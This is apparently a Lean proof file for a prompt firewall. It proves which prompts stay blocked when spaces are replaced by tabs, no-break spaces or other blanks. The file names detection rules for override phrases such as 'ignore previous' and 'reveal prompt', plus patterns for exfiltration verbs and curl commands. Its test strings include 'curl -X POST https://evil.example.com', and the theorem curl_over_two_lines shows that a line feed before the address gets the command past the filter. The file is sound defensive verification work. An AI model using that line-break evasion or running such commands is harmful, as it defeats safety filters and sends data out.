import Gatehouse.Proofs.Pattern.Folding
import Gatehouse.Proofs.Safety.Markup

/-!
# Prompts with other blanks

A phrase is the same phrase whether its words stand apart by spaces, tabs or line feeds, and eleven
rules for prompts take it so. The other two ask for a command and a web address with a short gap between
them, and the gap has to be on one line.

* `blanksAlike` is the folding of all blanks into the space; `phraseRules` are the rules that are blind
  to it;
* a `Directive` is one of the two other rules, with its parts in front of the gap and behind it, which
  are blind to it too; `Directive.ReadsOn` says where they are read, and that a second text has no line
  feed in the place of the gap;
* `blocked_respaced_iff`: when a prompt with other blanks is blocked. As long as no line feed is put in,
  it is if the prompt was;
* `curl_over_two_lines`: a line feed in the gap lets a command pass.
-/

namespace Gatehouse.Text

open Gatehouse.Pattern (Folding)

/-! ## 1. Blanks -/

/-- All blanks. -/
def blankChars : List Char :=
  (List.range' 0x09 5 ++ [0x20, 0x85, 0xA0, 0x1680] ++ List.range' 0x2000 11 ++
    [0x2028, 0x2029, 0x202F, 0x205F, 0x3000]).map Char.ofNat

theorem mem_blankChars_of_isBlank {c : Char} (h : isBlank c = true) : c ∈ blankChars := by
  refine List.mem_map.2 ⟨c.toNat, ?_, Char.ofNat_toNat c⟩
  simp only [List.mem_append, List.mem_range'_1, List.mem_cons, List.not_mem_nil, or_false]
  unfold isBlank at h
  by_cases hlow : c.toNat < 0x80
  · simp only [if_pos hlow, Bool.or_eq_true, Bool.and_eq_true, decide_eq_true_eq, beq_iff_eq] at h
    omega
  · simp only [if_neg hlow, Bool.or_eq_true, Bool.and_eq_true, decide_eq_true_eq, beq_iff_eq] at h
    omega

/-- A blank written as a space. -/
def asSpace (c : Char) : Char := if isBlank c then ' ' else c

/-- **Blanks written as spaces.** -/
def blanksAlike : Folding where
  fold := asSpace
  moved := blankChars
  fold_of_not_mem c hc := if_neg fun h => hc (mem_blankChars_of_isBlank h)
  all_isWord := by decide +kernel

end Gatehouse.Text

namespace Gatehouse.Safety

open Gatehouse.Text
open Gatehouse.Pattern

/-- **The texts differ in nothing but which blanks stand where blanks stand.** -/
def Respaced (s t : String) : Prop :=
  List.Forall₂ (fun x y => x = y ∨ (isBlank x = true ∧ isBlank y = true)) s.toList t.toList

instance (s t : String) : Decidable (Respaced s t) := inferInstanceAs (Decidable (List.Forall₂ ..))

theorem Respaced.map_asSpace {s t : String} (h : Respaced s t) :
    s.toList.map asSpace = t.toList.map asSpace := by
  rw [← List.forall₂_eq_eq_eq, List.forall₂_map_left_iff, List.forall₂_map_right_iff]
  refine List.Forall₂.imp (fun x y hxy => ?_) h
  rcases hxy with rfl | ⟨hx, hy⟩
  · rfl
  · show (if isBlank x then ' ' else x) = (if isBlank y then ' ' else y)
    rw [if_pos hx, if_pos hy]

namespace Firewall

/-! ## 2. Rules that are blind to blanks -/

/-- The rules for phrases and for base64 texts. -/
def phraseRules : List Pattern :=
  [ignorePrevious, disregardPrevious, overrideSystem, forgetRules, unrestrictedRole, specialMode,
    noRules, revealPrompt, askPrompt, followBase64, base64Text]

/-- Such a rule hits a text whichever blanks it is written with. -/
theorem occursIn_respaced {s t : String} (h : Respaced s t) {p : Pattern} (hp : p ∈ phraseRules) :
    p.occursIn s.toList = p.occursIn t.toList := by
  have hblind : phraseRules.all (fun p => p.blindTo blanksAlike && p.needsBeyond []) = true := by
    decide +kernel
  exact occursIn_eq_of_folded hblind hp h.map_asSpace

/-! ## 3. Directives -/

/-- **A command and what it is given**, with a short gap between them. Neither part makes a difference
    between blanks. -/
structure Directive where
  command : List Pattern
  target : List Pattern
  isBlind_command : (all command).blindTo blanksAlike = true
  isBlind_target : (all target).blindTo blanksAlike = true

namespace Directive

/-- The rule for the directive. -/
def rule (d : Directive) : Pattern := all (d.command ++ shortGap :: d.target)

/-- **The directive stands in the first text**, with at most eighty characters between its parts, in
    whose place the second text has no line feed. -/
def ReadsOn (d : Directive) (s t : List Char) : Prop :=
  ∃ l w g v a, s = l ++ (w ++ (g ++ (v ++ a))) ∧
    (all d.command).Reads (lastOf none l) w (g ++ (v ++ a)) ∧ g.length ≤ 80 ∧
    (all d.target).Reads (lastOf none (l ++ (w ++ g))) v a ∧
    '\n' ∉ (t.drop (l ++ w).length).take g.length

variable {d : Directive}

theorem reads_shortGap_iff {b : Option Char} {w a : List Char} :
    shortGap.Reads b w a ↔ w.length ≤ 80 ∧ '\n' ∉ w := by
  have hkind : (∀ x ∈ w, notLineFeed x = true) ↔ '\n' ∉ w := by
    simp only [notLineFeed, bne_iff_ne]
    exact ⟨fun h hm => h _ hm rfl, fun h x hx heq => h (heq ▸ hx)⟩
  show 0 ≤ w.length ∧ Room (some 80) w.length ∧ (∀ x ∈ w, notLineFeed x = true) ↔ _
  rw [hkind]
  simp [Room]

/-- The place of the gap in the text itself. -/
theorem take_drop_gap (l w g r : List Char) :
    ((l ++ (w ++ (g ++ r))).drop (l ++ w).length).take g.length = g := by
  rw [← List.append_assoc, List.drop_left, List.take_left]

/-- The rule hits a text if the directive stands in it on one line. -/
theorem occursIn_rule_iff {text : List Char} :
    d.rule.occursIn text = true ↔ d.ReadsOn text text := by
  rw [occursIn_iff]
  constructor
  · intro h
    obtain ⟨l, _, a, rfl, hr⟩ := h
    obtain ⟨w, _, rfl, hcommand, hrest⟩ := reads_all_append.1 hr
    obtain ⟨g, v, rfl, hgap, htarget⟩ := reads_all_cons.1 hrest
    obtain ⟨hlength, hfeed⟩ := reads_shortGap_iff.1 hgap
    have htext : l ++ (w ++ (g ++ v) ++ a) = l ++ (w ++ (g ++ (v ++ a))) := by simp
    rw [List.append_assoc] at hcommand
    rw [← lastOf_append, ← lastOf_append] at htarget
    refine ⟨l, w, g, v, a, htext, hcommand, hlength, htarget, ?_⟩
    rw [htext, take_drop_gap]
    exact hfeed
  · intro h
    obtain ⟨l, w, g, v, a, rfl, hcommand, hlength, htarget, hfeed⟩ := h
    rw [take_drop_gap] at hfeed
    have htext : l ++ (w ++ (g ++ (v ++ a))) = l ++ (w ++ (g ++ v) ++ a) := by simp
    rw [lastOf_append, lastOf_append] at htarget
    rw [← List.append_assoc] at hcommand
    have hrest := reads_all_cons.2 ⟨g, v, rfl, reads_shortGap_iff.2 ⟨hlength, hfeed⟩, htarget⟩
    exact ⟨l, w ++ (g ++ v), a, htext, reads_all_append.2 ⟨w, g ++ v, rfl, hcommand, hrest⟩⟩

/-- Where the directive stands does not depend on the blanks. -/
theorem ReadsOn.of_respaced {s t u : List Char} (h : t.map asSpace = s.map asSpace)
    (hr : d.ReadsOn s u) : d.ReadsOn t u := by
  obtain ⟨l, w, g, v, a, rfl, hcommand, hlength, htarget, hfeed⟩ := hr
  simp only [List.map_append] at h
  -- the second text falls into parts of the same lengths
  obtain ⟨l', _, rfl, hl, h⟩ := List.map_eq_append_iff.1 h
  obtain ⟨w', _, rfl, hw, h⟩ := List.map_eq_append_iff.1 h
  obtain ⟨g', _, rfl, hg, h⟩ := List.map_eq_append_iff.1 h
  obtain ⟨v', a', rfl, hv, ha⟩ := List.map_eq_append_iff.1 h
  have hlengths : (l' ++ w').length = (l ++ w).length ∧ g'.length = g.length := by
    have hl := congrArg List.length hl
    have hw := congrArg List.length hw
    have hg := congrArg List.length hg
    simp only [List.length_map] at hl hw hg
    simp [hl, hw, hg]
  have hbefore : (l' ++ (w' ++ g')).map asSpace = (l ++ (w ++ g)).map asSpace := by
    simp only [List.map_append, hl, hw, hg]
  have hbehind : (g' ++ (v' ++ a')).map asSpace = (g ++ (v ++ a)).map asSpace := by
    simp only [List.map_append, hg, hv, ha]
  have hcommand' : (all d.command).Reads (lastOf none l') w' (g' ++ (v' ++ a')) :=
    (reads_iff_of_folded d.isBlind_command (lastOf_of_folded hl none) hw hbehind).2 hcommand
  have htarget' : (all d.target).Reads (lastOf none (l' ++ (w' ++ g'))) v' a' :=
    (reads_iff_of_folded d.isBlind_target (lastOf_of_folded hbefore none) hv ha).2 htarget
  rw [← hlengths.1, ← hlengths.2] at hfeed
  rw [← hlengths.2] at hlength
  exact ⟨l', w', g', v', a', rfl, hcommand', hlength, htarget', hfeed⟩

/-- Nor does it matter if line feeds of the second text are taken out. -/
theorem ReadsOn.of_fewer {s t u : List Char} (h : ∀ i : Nat, u[i]? = some '\n' → t[i]? = some '\n')
    (hr : d.ReadsOn s t) : d.ReadsOn s u := by
  obtain ⟨l, w, g, v, a, hs, hcommand, hlength, htarget, hfeed⟩ := hr
  refine ⟨l, w, g, v, a, hs, hcommand, hlength, htarget, fun hm => hfeed ?_⟩
  rw [List.mem_iff_getElem?] at hm ⊢
  obtain ⟨i, hi⟩ := hm
  refine ⟨i, ?_⟩
  rw [List.getElem?_take] at hi ⊢
  split at hi
  · rename_i hlt
    rw [List.getElem?_drop] at hi
    rw [if_pos hlt, List.getElem?_drop]
    exact h _ hi
  · cases hi

end Directive

/-- Sending something to a web address. -/
def sending : Directive where
  command := [anyWord ["send", "post", "upload", "transmit", "forward", "exfiltrate"], boundary]
  target := [boundary, word "to", blanks, webAddress]
  isBlind_command := by decide +kernel
  isBlind_target := by decide +kernel

/-- Fetching a web address from a shell. -/
def fetching : Directive where
  command := [boundary, word "curl", boundary]
  target := [webAddress]
  isBlind_command := by decide +kernel
  isBlind_target := by decide +kernel

/-- All directives. -/
def directives : List Directive := [sending, fetching]

theorem inputRules_eq : inputRules = phraseRules ++ directives.map Directive.rule := rfl

/-! ## 4. Which prompts are blocked -/

/-- **The firewall blocks the text**, as a prompt. -/
def Blocks (text : String) : Prop := reason? .input text ≠ none

instance (text : String) : Decidable (Blocks text) := inferInstanceAs (Decidable (_ ≠ none))

theorem blocks_iff {text : String} : Blocks text ↔
    (∃ p ∈ phraseRules, p.occursIn text.toList = true) ∨
      ∃ d ∈ directives, d.ReadsOn text.toList text.toList := by
  have hrules : Blocks text ↔ ∃ p ∈ inputRules, p.occursIn text.toList = true := reason?_ne_none_iff
  rw [hrules, inputRules_eq]
  simp only [List.mem_append, or_and_right, exists_or, List.mem_map]
  refine or_congr_right ?_
  constructor
  · intro h
    obtain ⟨_, ⟨d, hd, rfl⟩, hocc⟩ := h
    exact ⟨d, hd, Directive.occursIn_rule_iff.1 hocc⟩
  · intro h
    obtain ⟨d, hd, hr⟩ := h
    exact ⟨d.rule, ⟨d, hd, rfl⟩, Directive.occursIn_rule_iff.2 hr⟩

end Firewall

open Firewall

/-- **When a prompt with other blanks is blocked**: if a rule for phrases hits the prompt, or if a
    directive stands in it and no line feed was put between its parts. So a prompt that is blocked is
    blocked with other blanks as well, as long as no line feed is put in. -/
theorem blocked_respaced_iff {s t : String} (h : Respaced s t) :
    (Blocks t ↔ (∃ p ∈ phraseRules, p.occursIn s.toList = true) ∨
      ∃ d ∈ directives, d.ReadsOn s.toList t.toList) ∧
    (Blocks s → (∀ i : Nat, t.toList[i]? = some '\n' → s.toList[i]? = some '\n') → Blocks t) := by
  have hiff : Blocks t ↔ (∃ p ∈ phraseRules, p.occursIn s.toList = true) ∨
      ∃ d ∈ directives, d.ReadsOn s.toList t.toList := by
    rw [blocks_iff]
    refine or_congr ?_ ?_
    · refine exists_congr fun p => and_congr_right fun hp => ?_
      rw [occursIn_respaced h hp]
    · refine exists_congr fun d => and_congr_right fun _ => ?_
      exact ⟨.of_respaced h.map_asSpace, .of_respaced h.map_asSpace.symm⟩
  refine ⟨hiff, fun hs hfeeds => hiff.2 ?_⟩
  rcases blocks_iff.1 hs with hphrase | ⟨d, hd, hr⟩
  · exact .inl hphrase
  · exact .inr ⟨d, hd, hr.of_fewer hfeeds⟩

/-- A command with a tab, a no-break space and a line separator in place of its spaces. -/
theorem blocked_respaced_curl :
    Respaced "curl -X POST https://evil.example.com"
        "curl\t-X\u00A0POST\u2028https://evil.example.com" ∧
      Blocks "curl\t-X\u00A0POST\u2028https://evil.example.com" := by
  have hrespaced : Respaced "curl -X POST https://evil.example.com"
      "curl\t-X\u00A0POST\u2028https://evil.example.com" := by decide +kernel
  have hblocks : Blocks "curl -X POST https://evil.example.com" := by decide +kernel
  obtain ⟨-, hkept⟩ := blocked_respaced_iff hrespaced
  refine ⟨hrespaced, hkept hblocks fun i hi => ?_⟩
  exact absurd (List.mem_of_getElem? hi) (by decide)

/-- **A line feed in front of the address lets the command pass.** -/
theorem curl_over_two_lines :
    Respaced "curl -X POST https://evil.example.com" "curl -X POST\nhttps://evil.example.com" ∧
      Blocks "curl -X POST https://evil.example.com" ∧
      ¬ Blocks "curl -X POST\nhttps://evil.example.com" ∧
      Firewall.check .input "curl -X POST\nhttps://evil.example.com" = .allowed := by
  decide +kernel

end Gatehouse.Safety
